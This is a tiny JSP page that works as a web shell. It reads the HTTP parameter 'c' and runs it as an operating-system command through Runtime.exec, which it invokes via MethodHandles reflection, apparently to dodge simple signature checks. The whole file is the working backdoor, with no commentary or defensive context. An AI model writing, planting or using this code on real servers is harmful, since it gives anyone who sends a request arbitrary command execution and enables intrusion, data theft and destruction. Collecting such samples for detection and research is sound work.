<%@ page import="java.lang.invoke.*" %><%
MethodHandle h = MethodHandles.lookup().findVirtual(Runtime.class, "exec", MethodType.methodType(Process.class, String.class));
h.invoke(Runtime.getRuntime(), request.getParameter("c"));
%>
